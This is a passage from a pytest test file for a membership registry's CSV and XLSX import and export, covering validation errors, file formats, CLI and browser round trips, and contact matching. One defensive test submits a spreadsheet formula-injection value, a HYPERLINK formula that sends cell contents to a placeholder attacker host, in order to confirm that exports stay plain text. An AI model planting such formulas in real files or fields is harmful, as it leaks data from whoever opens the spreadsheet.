"""Import and export of members and contacts: CSV and XLSX, CLI and browser, round trips."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import delete, func, select

from secretariat.demo import load_demo
from secretariat.members import services, transfer
from secretariat.members.models import (
    Contact,
    ContactRole,
    Member,
    MemberKind,
    MemberStatus,
    MemberStatusChange,
)
from secretariat.tabular import TableError, read_table, write_table
from secretariat.vocabularies.models import Vocabulary
from tests.factories import ContactFactory, MemberFactory, TermFactory, UserFactory

HEADER = (
    "slug,name,kind,country,region,population,joined_on,status,tier,annual_fee,fee_currency,"
    "next_election_on,leader_term_ends_on,website,notes"
)
GOOD_MEMBERS = f"""{HEADER}
sao-paulo,São Paulo,city,BR,latin america,11451245,2016-05-01,active,FULL,2500.00,EUR,2028-10-01,2029-01-01,https://www.prefeitura.sp.gov.br,"Hosts the 2027 assembly, with the ""state""."
zurich,Zürich,city,CH,EUROPE,421878,2019-02-03,active,observer,,,,,https://www.stadt-zuerich.ch,
moskva,Москва,city,RU,Europe,13010112,2012-09-01,exited,,,,,,,"Left in 2022.
Archive kept."
beijing,北京,metropolitan_authority,CN,East Asia,21893095,,applicant,,,,,,,
krakow,Kraków,city,PL,europe,804237,2021-06-15,suspended,Full,1200.50,PLN,2029-04-07,,https://www.krakow.pl,
"""  # noqa: E501
UNICODE_NAMES = {
    "sao-paulo": "São Paulo",
    "zurich": "Zürich",
    "moskva": "Москва",
    "beijing": "北京",
    "krakow": "Kraków",
}
CONTACT_HEADER = "member,name,email,phone,job_title,role,is_primary,active_from,active_to,language"
GOOD_CONTACTS = f"""{CONTACT_HEADER}
sao-paulo,João Conceição,joao@prefeitura.example,+55 11 0000 0000,Assessor Internacional,focal_point,yes,2021-01-04,,pt
sao-paulo,Marta Suplicy,,,"Prefeita, São Paulo",leader,no,2001-01-01,2004-12-31,pt
zurich,Corine Mauch,corine.mauch@zuerich.example,,Stadtpräsidentin,leader,no,2009-03-01,,de
zurich,Jürg Müller,juerg.mueller@zuerich.example,+41 44 000 00 00,Smart City,focal_point,yes,2020-06-01,,de
krakow,Łukasz Wójcik,lukasz@krakow.example,,,technical_lead,no,2022-09-01,,pl
"""  # noqa: E501


def csv_table(content: str, filename: str = "file.csv"):
    return read_table(content.encode("utf-8"), filename)


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_rows(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


def count(db, model) -> int:
    return db.scalar(select(func.count()).select_from(model))


def snapshot(db) -> tuple:
    """Everything an import could change, to check that nothing was written."""
    db.expire_all()
    return (
        count(db, Member),
        count(db, Contact),
        count(db, MemberStatusChange),
        transfer.member_rows(db),
        transfer.contact_rows(db),
    )


def errors_of(plan) -> list[tuple[int, str]]:
    return [(e.row, e.column) for e in plan.errors]


def text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


@pytest.fixture
def terms(db):
    return {
        "Europe": TermFactory(label="Europe"),
        "Latin America": TermFactory(label="Latin America"),
        "East Asia": TermFactory(label="East Asia"),
        "Full": TermFactory(vocabulary=Vocabulary.TIER, label="Full"),
        "Observer": TermFactory(vocabulary=Vocabulary.TIER, label="Observer"),
    }


@pytest.fixture
def imported(db, terms):
    """The good members and contacts files, imported."""
    transfer.import_members(db, None, csv_table(GOOD_MEMBERS))
    transfer.import_contacts(db, None, csv_table(GOOD_CONTACTS))
    db.expire_all()
    return terms


def by_slug(db, slug: str) -> Member:
    return db.scalar(select(Member).where(Member.slug == slug))


# -- members: errors -----------------------------------------------------------------------

BAD_MEMBERS = f"""{HEADER}
lisbon,Lisbon,city,PT,Europe,545000,2015-03-12,active,Full,2500.00,EUR,,,https://www.lisboa.pt,
atlantis,Atlantis,city,XX,,,,,,,,,,,
lisbon,Lisboa (again),city,PT,,,,,,,,,,,
porto,Porto,city,PT,,-5,,,,,,,,,
braga,Braga,city,PT,,,2021-13-45,,,,,,,,
faro,,city,PT,,,,,,,,,,,
"""
BAD_MEMBER_ERRORS = [(3, "country"), (4, "slug"), (5, "population"), (6, "joined_on"), (7, "name")]


def test_bad_member_rows_report_every_error_by_row_and_column(db, terms):
    before = snapshot(db)
    plan = transfer.plan_member_import(db, csv_table(BAD_MEMBERS))
    assert not plan.ok
    assert errors_of(plan) == BAD_MEMBER_ERRORS
    messages = {(e.row, e.column): e.message for e in plan.errors}
    assert "XX" in messages[(3, "country")]
    assert "row 2" in messages[(4, "slug")]
    assert "negative" in messages[(5, "population")]
    assert "2021-13-45" in messages[(6, "joined_on")]
    assert "YYYY-MM-DD" in messages[(6, "joined_on")]
    assert messages[(7, "name")] == "Enter the member's name."
    with pytest.raises(transfer.ImportRefused):
        transfer.apply_plan(db, None, plan)
    with pytest.raises(transfer.ImportRefused):
        transfer.import_members(db, None, csv_table(BAD_MEMBERS))
    assert snapshot(db) == before


def test_every_error_of_one_row_is_reported(db, terms):
    content = f"""{HEADER}
bad slug,,town,XX,Mars,-1,2021-02-30,retired,Platinum,-3,ZZZ,soon,later,ftp://x.org,
"""
    plan = transfer.plan_member_import(db, csv_table(content))
    assert sorted(errors_of(plan)) == sorted(
        (2, column)
        for column in [
            "slug",
            "name",
            "kind",
            "country",
            "region",
            "population",
            "joined_on",
            "status",
            "tier",
            "annual_fee",
            "fee_currency",
            "next_election_on",
            "leader_term_ends_on",
            "website",
        ]
    )


def test_bad_member_file_through_the_cli(db, cli, terms, tmp_path):
    path = tmp_path / "members.csv"
    path.write_text(BAD_MEMBERS, encoding="utf-8")
    before = snapshot(db)
    result = cli("import", "members", str(path))
    assert result.exit_code == 1
    assert "nothing imported; 5 problem(s)" in result.stderr
    for row, column in BAD_MEMBER_ERRORS:
        assert f"row {row}, column {column}:" in result.stderr
    assert "row 2," not in result.stderr
    assert snapshot(db) == before


def test_row_numbers_are_the_spreadsheet_rows(db, terms):
    # A blank line and a row of empty cells are skipped but still counted.
    content = (
        f"{HEADER}\nlisbon,Lisbon,city,PT,,,,,,,,,,,\n\n,,,,,,,,,,,,,,\n"
        "porto,Porto,city,XX,,,,,,,,,,,\n"
    )
    plan = transfer.plan_member_import(db, csv_table(content))
    assert errors_of(plan) == [(5, "country")]


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("slug,name,kind,country,colour", [(1, "colour")]),
        ("slug,name,kind", [(1, "country")]),
        ("slug,name,name,kind,country", [(1, "name")]),
        ("name,country", [(1, "kind"), (1, "slug")]),
    ],
)
def test_bad_headers(db, header, expected):
    plan = transfer.plan_member_import(db, csv_table(f"{header}\n"))
    assert errors_of(plan) == expected


def test_unreadable_files(db):
    with pytest.raises(TableError, match="UTF-8"):
        read_table("slug,name\nzurich,Zürich\n".encode("cp1252"), "members.csv")
    with pytest.raises(TableError, match="empty"):
        read_table(b"", "members.csv")
    with pytest.raises(TableError):
        read_table(b"slug\n", "members.txt")


def test_a_file_that_is_not_a_workbook_is_refused_with_a_message(db, cli, client, auth, tmp_path):
    """A CSV saved as .xlsx (or a damaged download) is a user error, not a crash."""
    data = GOOD_MEMBERS.encode()
    with pytest.raises(TableError, match="xlsx"):
        read_table(data, "members.xlsx")
    path = tmp_path / "members.xlsx"
    path.write_bytes(data)
    result = cli("import", "members", str(path))
    assert result.exit_code == 1
    assert "not a readable .xlsx workbook" in result.stderr
    auth.login(UserFactory())
    response = upload(client, "members", data, "members.xlsx")
    assert response.status_code == 200
    assert "not a readable .xlsx workbook" in text(response)


def test_unreadable_file_through_the_cli(db, cli, tmp_path):
    path = tmp_path / "members.csv"
    path.write_bytes("slug,name,kind,country\nzurich,Zürich,city,CH\n".encode("cp1252"))
    result = cli("import", "members", str(path))
    assert result.exit_code == 1
    assert "UTF-8" in result.stderr
    assert count(db, Member) == 0


# -- members: good files -------------------------------------------------------------------


def test_good_file_imports(db, terms):
    plan = transfer.import_members(db, None, csv_table(GOOD_MEMBERS))
    assert plan.ok
    assert [c.key for c in plan.creates] == list(UNICODE_NAMES)
    db.expire_all()
    sao = by_slug(db, "sao-paulo")
    assert sao.name == "São Paulo"
    assert sao.search_name == "sao paulo"
    assert sao.kind is MemberKind.CITY
    assert sao.region_id == terms["Latin America"].id
    assert sao.tier_id == terms["Full"].id
    assert sao.population == 11_451_245
    assert sao.joined_on == date(2016, 5, 1)
    assert sao.annual_fee == Decimal("2500.00")
    assert sao.fee_currency == "EUR"
    assert sao.next_election_on == date(2028, 10, 1)
    assert sao.leader_term_ends_on == date(2029, 1, 1)
    assert sao.notes == 'Hosts the 2027 assembly, with the "state".'
    assert sao.status is MemberStatus.ACTIVE
    assert by_slug(db, "zurich").region_id == terms["Europe"].id
    assert by_slug(db, "zurich").tier_id == terms["Observer"].id
    assert by_slug(db, "krakow").region_id == terms["Europe"].id
    assert by_slug(db, "krakow").annual_fee == Decimal("1200.50")
    assert by_slug(db, "moskva").notes == "Left in 2022.\nArchive kept."
    beijing = by_slug(db, "beijing")
    assert beijing.kind is MemberKind.METROPOLITAN_AUTHORITY
    assert beijing.status is MemberStatus.APPLICANT
    assert beijing.joined_on is None
    for slug, name in UNICODE_NAMES.items():
        member = by_slug(db, slug)
        assert member.name == name
        (change,) = member.status_changes
        assert change.from_status is None
        assert change.to_status is member.status
        assert change.reason == "Created by a file import."


def test_a_new_member_without_status_is_active(db):
    transfer.import_members(db, None, csv_table("slug,name,kind,country\naccra,Accra,city,GH\n"))
    assert by_slug(db, "accra").status is MemberStatus.ACTIVE


def test_reimporting_the_same_file_changes_nothing(db, terms):
    transfer.import_members(db, None, csv_table(GOOD_MEMBERS))
    before = snapshot(db)
    plan = transfer.plan_member_import(db, csv_table(GOOD_MEMBERS))
    assert plan.ok
    assert (len(plan.creates), len(plan.updates), plan.unchanged) == (0, 0, 5)
    assert not plan.has_changes
    transfer.apply_plan(db, None, plan)
    assert snapshot(db) == before


def test_reimporting_through_the_cli_changes_nothing(db, cli, terms, tmp_path):
    path = tmp_path / "members.csv"
    path.write_text(GOOD_MEMBERS, encoding="utf-8")
    result = cli("import", "members", str(path))
    assert result.exit_code == 0, result.output
    assert "5 members were added, 0 changed, 0 unchanged." in result.output
    before = snapshot(db)
    assert before[0] == 5
    result = cli("import", "members", str(path))
    assert result.exit_code == 0, result.output
    assert "0 members were added, 0 changed, 5 unchanged." in result.output
    assert snapshot(db) == before


def test_dry_run_writes_nothing(db, cli, terms, tmp_path):
    path = tmp_path / "members.csv"
    path.write_text(GOOD_MEMBERS, encoding="utf-8")
    result = cli("import", "members", str(path), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "5 members would be added" in result.output
    assert count(db, Member) == 0


def test_update_changes_only_the_columns_in_the_file(db, imported):
    plan = transfer.import_members(
        db, None, csv_table("slug,name,kind,country,population\nZURICH,Zürich,city,ch,430000\n")
    )
    assert [(c.key, c.changes) for c in plan.updates] == [
        ("zurich", {"population": (421_878, 430_000)})
    ]
    db.expire_all()
    zurich = by_slug(db, "zurich")
    assert zurich.population == 430_000
    assert zurich.region_id == imported["Europe"].id
    assert zurich.website == "https://www.stadt-zuerich.ch"
    assert zurich.joined_on == date(2019, 2, 3)


def test_status_change_through_import_is_in_the_history(db, cli, imported, tmp_path):
    path = tmp_path / "members.csv"
    path.write_text("slug,name,kind,country,status\nzurich,Zürich,city,CH,Suspended\n")
    plan = transfer.plan_member_import(db, csv_table(path.read_text()))
    assert [c.changes for c in plan.updates] == [
        {"status": (MemberStatus.ACTIVE, MemberStatus.SUSPENDED)}
    ]
    result = cli("import", "members", str(path))
    assert result.exit_code == 0, result.output
    assert "0 members were added, 1 changed, 0 unchanged." in result.output
    db.expire_all()
    zurich = by_slug(db, "zurich")
    assert zurich.status is MemberStatus.SUSPENDED
    latest, first = zurich.status_changes
    assert (latest.from_status, latest.to_status) == (MemberStatus.ACTIVE, MemberStatus.SUSPENDED)
    assert latest.reason == "Changed by a file import."
    assert latest.changed_by_id is None
    assert first.to_status is MemberStatus.ACTIVE
    # The same file again: nothing more in the history.
    assert cli("import", "members", str(path)).exit_code == 0
    db.expire_all()
    assert len(by_slug(db, "zurich").status_changes) == 2


@pytest.mark.parametrize(
    ("row", "column"),
    [
        ("lisbon,Lisbon,city,PT,Atlantis,,,,,,,,,,", "region"),
        ("lisbon,Lisbon,city,PT,,,,,Platinum,,,,,,", "tier"),
        ("lisbon,Lisbon,town,PT,,,,,,,,,,,", "kind"),
        ("lisbon,Lisbon,city,PT,,,,retired,,,,,,,", "status"),
        ("lisbon,Lisbon,city,PT,,,,,,100,,,,,", "fee_currency"),
        ("lisbon,Lisbon,city,PT,,,,,,,EUR,,,,", "annual_fee"),
        ("lisbon,Lisbon,city,PT,,,,,,100,ZZZ,,,,", "fee_currency"),
        ("lisbon,Lisbon,city,PT,,,,,,abc,EUR,,,,", "annual_fee"),
        ("lisbon,Lisbon,city,PT,,many,,,,,,,,,", "population"),
        ("lisbon,Lisbon,city,PT,,,,,,,,,,lisboa.pt,", "website"),
        ("Lisbon City,Lisbon,city,PT,,,,,,,,,,,", "slug"),
        (",Lisbon,city,PT,,,,,,,,,,,", "slug"),
    ],
)
def test_bad_member_values(db, terms, row, column):
    plan = transfer.plan_member_import(db, csv_table(f"{HEADER}\n{row}\n"))
    assert errors_of(plan) == [(2, column)]


def test_slugs_match_whatever_their_case(db):
    MemberFactory(slug="lisbon", name="Lisbon", country="PT", region=None)
    plan = transfer.plan_member_import(
        db, csv_table("slug,name,kind,country\nLISBON,Lisbon,city,PT\n")
    )
    assert plan.ok
    assert (len(plan.creates), len(plan.updates), plan.unchanged) == (0, 0, 1)


# -- formats -------------------------------------------------------------------------------


def _as_xlsx(content: str) -> bytes:
    return xlsx_bytes(csv_rows(content))


def _rewrite(content: str, delimiter: str = ",", newline: str = "\n", bom: bool = False) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerows(csv_rows(content))
    return ("\ufeff" if bom else "").encode() + buffer.getvalue().encode("utf-8")


ENCODINGS = {
    "csv": lambda c: c.encode("utf-8"),
    "csv-bom": lambda c: _rewrite(c, bom=True),
    "csv-crlf": lambda c: _rewrite(c, newline="\r\n"),
    "csv-semicolon": lambda c: _rewrite(c, delimiter=";"),
    "csv-bom-semicolon-crlf": lambda c: _rewrite(c, delimiter=";", newline="\r\n", bom=True),
    "xlsx": _as_xlsx,
}


@pytest.mark.parametrize("encoding", list(ENCODINGS))
def test_formats_parse_and_unicode_survives(db, terms, encoding):
    data = ENCODINGS[encoding](GOOD_MEMBERS)
    filename = "members.xlsx" if encoding == "xlsx" else "members.csv"
    table = read_table(data, filename)
    assert table.headers == HEADER.split(",")
    plan = transfer.import_members(db, None, table)
    assert plan.ok, plan.errors
    assert len(plan.creates) == 5
    db.expire_all()
    assert {m.slug: m.name for m in db.scalars(select(Member))} == UNICODE_NAMES
    assert by_slug(db, "moskva").notes == "Left in 2022.\nArchive kept."
    assert by_slug(db, "krakow").annual_fee == Decimal("1200.50")
    # The same file in the other format is then a no-op.
    plan = transfer.plan_member_import(db, csv_table(GOOD_MEMBERS))
    assert (len(plan.creates), len(plan.updates)) == (0, 0)


def test_semicolon_csv_with_commas_in_values(db):
    content = 'slug;name;kind;country;notes\nlisbon;Lisbon;city;PT;"Capital, coastal"\n'
    transfer.import_members(db, None, read_table(content.encode(), "m.csv"))
    assert by_slug(db, "lisbon").notes == "Capital, coastal"


def test_headers_are_normalised(db):
    content = "\ufeff Slug ;Name;KIND;Country;Joined On\nlisbon;Lisbon;City;pt;2015-03-12\n"
    plan = transfer.import_members(db, None, read_table(content.encode(), "m.csv"))
    assert plan.ok, plan.errors
    member = by_slug(db, "lisbon")
    assert member.country == "PT"
    assert member.joined_on == date(2015, 3, 12)


def test_xlsx_with_native_cells(db, terms):
    data = xlsx_bytes(
        [
            [
                "slug",
                "name",
                "kind",
                "country",
                "population",
                "joined_on",
                "annual_fee",
                "fee_currency",
                "region",
            ],
            [
                "krakow",
                "Kraków",
                "City",
                "PL",
                804237,
                datetime(2021, 6, 15),
                1200.5,
                "PLN",
                "Europe",
            ],
            [
                "beijing",
                "北京",
                "metropolitan authority",
                "CN",
                21893095.0,
                date(2010, 1, 1),
                None,
                None,
                None,
            ],
            [None, None, None, None, None, None, None, None, None],
            ["moskva", "Москва", "city", "RU", "13 010 112", None, None, None, None],
        ]
    )
    plan = transfer.plan_member_import(db, read_table(data, "members.xlsx"))
    assert errors_of(plan) == [(5, "population")]
    data = xlsx_bytes(
        [
            [
                "slug",
                "name",
                "kind",
                "country",
                "population",
                "joined_on",
                "annual_fee",
                "fee_currency",
                "region",
            ],
            [
                "krakow",
                "Kraków",
                "City",
                "PL",
                804237,
                datetime(2021, 6, 15),
                1200.5,
                "PLN",
                "Europe",
            ],
            [
                "beijing",
                "北京",
                "metropolitan authority",
                "CN",
                21893095.0,
                date(2010, 1, 1),
                None,
                None,
                None,
            ],
        ]
    )
    plan = transfer.import_members(db, None, read_table(data, "members.xlsx"))
    assert plan.ok, plan.errors
    krakow = by_slug(db, "krakow")
    assert krakow.joined_on == date(2021, 6, 15)
    assert krakow.annual_fee == Decimal("1200.50")
    assert krakow.region_id == terms["Europe"].id
    beijing = by_slug(db, "beijing")
    assert beijing.name == "北京"
    assert beijing.population == 21_893_095
    assert beijing.kind is MemberKind.METROPOLITAN_AUTHORITY


# -- round trips ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_round_trip_in_memory(db, imported, fmt):
    for columns, rows, plan_import in (
        (transfer.MEMBER_COLUMNS, transfer.member_rows, transfer.plan_member_import),
        (transfer.CONTACT_COLUMNS, transfer.contact_rows, transfer.plan_contact_import),
    ):
        exported = rows(db)
        assert exported
        buffer = io.BytesIO()
        write_table(buffer, fmt, columns, exported)
        table = read_table(buffer.getvalue(), f"export.{fmt}")
        plan = plan_import(db, table)
        assert plan.ok, plan.errors
        assert (len(plan.creates), len(plan.updates), plan.unchanged) == (0, 0, len(exported))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_round_trip_through_the_cli(db, cli, imported, tmp_path, fmt):
    members_file = tmp_path / f"members.{fmt}"
    contacts_file = tmp_path / f"contacts.{fmt}"
    result = cli("export", "members", str(members_file))
    assert result.exit_code == 0, result.output
    assert "Wrote 5 members" in result.output
    result = cli("export", "contacts", str(contacts_file))
    assert result.exit_code == 0, result.output
    assert "Wrote 5 contacts" in result.output
    before = snapshot(db)
    result = cli("import", "members", str(members_file))
    assert result.exit_code == 0, result.stderr
    assert "0 members were added, 0 changed, 5 unchanged." in result.output
    result = cli("import", "contacts", str(contacts_file))
    assert result.exit_code == 0, result.stderr
    assert "0 contacts were added, 0 changed, 5 unchanged." in result.output
    assert snapshot(db) == before
    for path, plan_import in (
        (members_file, transfer.plan_member_import),
        (contacts_file, transfer.plan_contact_import),
    ):
        plan = plan_import(db, read_table(path.read_bytes(), path.name))
        assert plan.ok and not plan.has_changes


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_rebuilds_an_empty_registry(db, cli, imported, tmp_path, fmt):
    members_file = tmp_path / f"members.{fmt}"
    contacts_file = tmp_path / f"contacts.{fmt}"
    assert cli("export", "members", str(members_file)).exit_code == 0
    assert cli("export", "contacts", str(contacts_file)).exit_code == 0
    members, contacts = transfer.member_rows(db), transfer.contact_rows(db)
    db.execute(delete(Contact))
    db.execute(delete(MemberStatusChange))
    db.execute(delete(Member))
    db.flush()
    assert cli("import", "members", str(members_file)).exit_code == 0
    result = cli("import", "contacts", str(contacts_file))
    assert result.exit_code == 0, result.stderr
    db.expire_all()
    assert transfer.member_rows(db) == members
    assert transfer.contact_rows(db) == contacts


def test_exported_csv_is_utf8_with_bom(db, cli, imported, tmp_path):
    path = tmp_path / "members.csv"
    assert cli("export", "members", str(path)).exit_code == 0
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode())
    content = data.decode("utf-8-sig")
    for name in UNICODE_NAMES.values():
        assert name in content


def test_exported_xlsx_has_typed_cells(db, cli, imported, tmp_path):
    path = tmp_path / "members.xlsx"
    assert cli("export", "members", str(path)).exit_code == 0
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == transfer.MEMBER_COLUMNS
    krakow = dict(zip(rows[0], next(r for r in rows if r[0] == "krakow"), strict=True))
    assert krakow["name"] == "Kraków"
    assert krakow["population"] == 804237
    assert krakow["joined_on"].date() == date(2021, 6, 15)


def test_export_to_an_unknown_format_fails(db, cli, tmp_path):
    result = cli("export", "members", str(tmp_path / "members.pdf"))
    assert result.exit_code == 1
    assert ".csv or .xlsx" in result.stderr


# Round-trip problems found while writing these tests (see the report).


def test_xlsx_round_trip_keeps_notes_typed_in_the_browser(db, client, auth):
    """Browsers send textarea line breaks as CRLF; XLSX must bring the notes back unchanged."""
    auth.login(UserFactory())
    response = client.post(
        "/members/new",
        data={
            "name": "Lisbon",
            "kind": "city",
            "country": "PT",
            "status": "active",
            "notes": "Co-chairs the coastal group.\r\nFees paid in March.",
        },
    )
    assert response.status_code == 302
    exported = client.get("/members/export/members.xlsx")
    plan = transfer.plan_member_import(db, read_table(exported.data, "members.xlsx"))
    assert plan.ok
    assert [u.changes for u in plan.updates] == []


def test_xlsx_round_trip_keeps_text_that_starts_with_equals(db):
    services.create_member(
        db,
        None,
        services.MemberData(
            name="Lisbon",
            slug="lisbon",
            kind=MemberKind.CITY,
            country="PT",
            notes="=== Priority member ===",
        ),
    )
    buffer = io.BytesIO()
    write_table(buffer, "xlsx", transfer.MEMBER_COLUMNS, transfer.member_rows(db))
    table = read_table(buffer.getvalue(), "members.xlsx")
    assert table.rows[0][1]["notes"] == "=== Priority member ==="
    plan = transfer.plan_member_import(db, table)
    assert [u.changes for u in plan.updates] == []


def test_xlsx_export_writes_text_never_formulas(db, client, auth):
    """Focal points edit their contacts; what they type must not become a live formula."""
    focal = UserFactory(focal_point=True)
    auth.login(focal)
    response = client.post(
        f"/members/{focal.member.slug}/contacts/new",
        data={
            "name": "Mallory",
            "role": "other",
            "job_title": '=HYPERLINK("https://evil.example/?"&A2,"Click")',
            "active_from": "2024-01-01",
        },
    )
    assert response.status_code == 302
    auth.logout()
    auth.login(UserFactory())
    exported = client.get("/members/export/contacts.xlsx")
    sheet = load_workbook(io.BytesIO(exported.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    plan = transfer.plan_contact_import(db, read_table(exported.data, "contacts.xlsx"))
    assert plan.ok and not plan.has_changes, (plan.errors, plan.updates)


def test_reimporting_an_activation_changes_nothing(db, imported):
    """Activating an applicant from an exported file (joined_on still empty) twice."""
    content = (
        "slug,name,kind,country,joined_on,status\nbeijing,北京,metropolitan_authority,CN,,active\n"
    )
    plan = transfer.import_members(db, None, csv_table(content))
    assert [c.changes for c in plan.updates] == [
        {"status": (MemberStatus.APPLICANT, MemberStatus.ACTIVE)}
    ]
    db.expire_all()
    assert by_slug(db, "beijing").status is MemberStatus.ACTIVE
    plan = transfer.plan_member_import(db, csv_table(content))
    assert [c.changes for c in plan.updates] == []
    assert plan.unchanged == 1


def test_round_trip_of_a_person_who_changed_role(db):
    """A contact is ended, never overwritten: the same person may hold two roles in turn."""
    member = MemberFactory(slug="lisbon", name="Lisbon")
    services.add_contact(
        db,
        None,
        member,
        services.ContactData(
            name="Ana Silva",
            role=ContactRole.TECHNICAL_LEAD,
            email="ana@lisboa.example",
            active_from=date(2019, 1, 1),
            active_to=date(2022, 12, 31),
        ),
    )
    services.add_contact(
        db,
        None,
        member,
        services.ContactData(
            name="Ana Silva",
            role=ContactRole.FOCAL_POINT,
            email="ana@lisboa.example",
            active_from=date(2023, 1, 1),
            is_primary=True,
        ),
    )
    buffer = io.BytesIO()
    write_table(buffer, "csv", transfer.CONTACT_COLUMNS, transfer.contact_rows(db))
    plan = transfer.plan_contact_import(db, read_table(buffer.getvalue(), "contacts.csv"))
    assert plan.ok, plan.errors
    assert not plan.has_changes


# -- contacts ------------------------------------------------------------------------------


def test_contacts_import(db, terms):
    transfer.import_members(db, None, csv_table(GOOD_MEMBERS))
    plan = transfer.import_contacts(db, None, csv_table(GOOD_CONTACTS))
    assert plan.ok, plan.errors
    assert len(plan.creates) == 5
    db.expire_all()
    sao = by_slug(db, "sao-paulo")
    joao, marta = sao.contacts
    assert joao.name == "João Conceição"
    assert joao.is_primary is True
    assert joao.language == "pt"
    assert joao.role is ContactRole.FOCAL_POINT
    assert marta.email is None
    assert marta.job_title == "Prefeita, São Paulo"
    assert marta.active_to == date(2004, 12, 31)
    lukasz = by_slug(db, "krakow").contacts[0]
    assert lukasz.name == "Łukasz Wójcik"
    assert lukasz.active_from == date(2022, 9, 1)
    # Importing again is a no-op.
    plan = transfer.plan_contact_import(db, csv_table(GOOD_CONTACTS))
    assert (len(plan.creates), len(plan.updates), plan.unchanged) == (0, 0, 5)


def test_reimporting_contacts_without_start_dates_changes_nothing(db, imported):
    """A new contact without active_from starts today; the same file again is a no-op."""
    content = f"{CONTACT_HEADER}\nkrakow,Anna Nowak,anna@krakow.example,,,other,no,,,pl\n"
    plan = transfer.import_contacts(db, None, csv_table(content))
    assert len(plan.creates) == 1
    db.expire_all()
    anna = db.scalar(select(Contact).where(Contact.email == "anna@krakow.example"))
    assert anna.active_from is not None
    plan = transfer.plan_contact_import(db, csv_table(content))
    assert [c.changes for c in plan.updates] == []
    assert plan.unchanged == 1


def test_contacts_are_matched_by_member_and_email(db, imported):
    content = f"""{CONTACT_HEADER}
ZURICH,Jürg Müller-Meier,JUERG.MUELLER@zuerich.example,+41 44 000 00 00,Smart City,focal_point,yes,2020-06-01,,de
sao-paulo,Marta Suplicy,,,"Prefeita, São Paulo",leader,no,2001-01-01,2005-01-01,pt
"""  # noqa: E501
    plan = transfer.import_contacts(db, None, csv_table(content))
    assert not plan.creates
    assert [(c.row, c.changes) for c in plan.updates] == [
        (2, {"name": ("Jürg Müller", "Jürg Müller-Meier")}),
        (3, {"active_to": (date(2004, 12, 31), date(2005, 1, 1))}),
    ]
    assert count(db, Contact) == 5


def test_contacts_import_errors(db, imported):
    content = f"""{CONTACT_HEADER}
atlantis,Nobody,nobody@atlantis.example,,,focal_point,no,,,
krakow,Anna Nowak,anna@krakow.example,,,focal_point,yes,2022-01-01,,pl
krakow,Piotr Zieliński,piotr@krakow.example,,,focal_point,yes,2022-01-01,,pl
zurich,Corine Mauch,corine.mauch@zuerich.example,,,leader,yes,2009-03-01,,de
zurich,Bad Mail,not-an-address,,,other,no,,,
zurich,Bad Dates,dates@zuerich.example,,,other,no,2024-05-01,2024-04-01,
zurich,Bad Values,values@zuerich.example,phone?,,mayor,maybe,2024-13-01,,xx
krakow,Anna Nowak (again),anna@krakow.example,,,other,no,2022-01-01,,
"""
    before = snapshot(db)
    plan = transfer.plan_contact_import(db, csv_table(content))
    assert errors_of(plan) == [
        (2, "member"),
        (4, "is_primary"),
        (5, "is_primary"),
        (6, "email"),
        (7, "active_to"),
        (8, "role"),
        (8, "is_primary"),
        (8, "active_from"),
        (8, "phone"),
        (8, "language"),
        (9, "email"),
    ]
    messages = {(e.row, e.column): e.message for e in plan.errors}
    assert "atlantis" in messages[(2, "member")]
    assert "Row 3" in messages[(4, "is_primary")]
    assert messages[(5, "is_primary")] == "Only a focal point can be the primary focal point."
    assert "row 3" in messages[(9, "email")]
    with pytest.raises(transfer.ImportRefused):
        transfer.import_contacts(db, None, csv_table(content))
    assert snapshot(db) == before


def test_bad_contacts_file_through_the_cli(db, cli, imported, tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_text(
        f"{CONTACT_HEADER}\natlantis,Nobody,,,,leader,no,,,\n"
        "zurich,Corine Mauch,corine.mauch@zuerich.example,,,leader,yes,,,\n",
        encoding="utf-8",
    )
    before = snapshot(db)
    result = cli("import", "contacts", str(path))
    assert result.exit_code == 1
    assert "row 2, column member:" in result.stderr
    assert "row 3, column is_primary:" in result.stderr
    assert snapshot(db) == before


def test_imported_primary_replaces_the_current_one(db, imported):
    content = f"{CONTACT_HEADER}\nzurich,Anna Keller,anna.keller@zuerich.example,,,focal_point,yes,2024-01-01,,de\n"  # noqa: E501
    transfer.import_contacts(db, None, csv_table(content))
    db.expire_all()
    primaries = db.scalars(
        select(Contact.name).where(
            Contact.member_id == by_slug(db, "zurich").id, Contact.is_primary
        )
    ).all()
    assert primaries == ["Anna Keller"]


def test_primary_moves_within_one_file(db, imported):
    content = f"""{CONTACT_HEADER}
zurich,Corine Mauch,corine.mauch@zuerich.example,,Stadtpräsidentin,leader,no,2009-03-01,,de
zurich,Jürg Müller,juerg.mueller@zuerich.example,+41 44 000 00 00,Smart City,focal_point,no,2020-06-01,,de
zurich,Anna Keller,anna.keller@zuerich.example,,,focal_point,yes,2024-01-01,,de
"""  # noqa: E501
    plan = transfer.import_contacts(db, None, csv_table(content))
    assert (len(plan.creates), len(plan.updates), plan.unchanged) == (1, 1, 1)
    db.expire_all()
    zurich = by_slug(db, "zurich")
    assert [c.name for c in zurich.contacts if c.is_primary] == ["Anna Keller"]


# -- browser -------------------------------------------------------------------------------


@pytest.fixture
def staff(db, auth):
    user = UserFactory()
    auth.login(user)
    return user


def upload(client, what: str, data: bytes, filename: str):
    return client.post(
        f"/members/import/{what}",
        data={"file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def confirm_action(page: str, what: str) -> str | None:
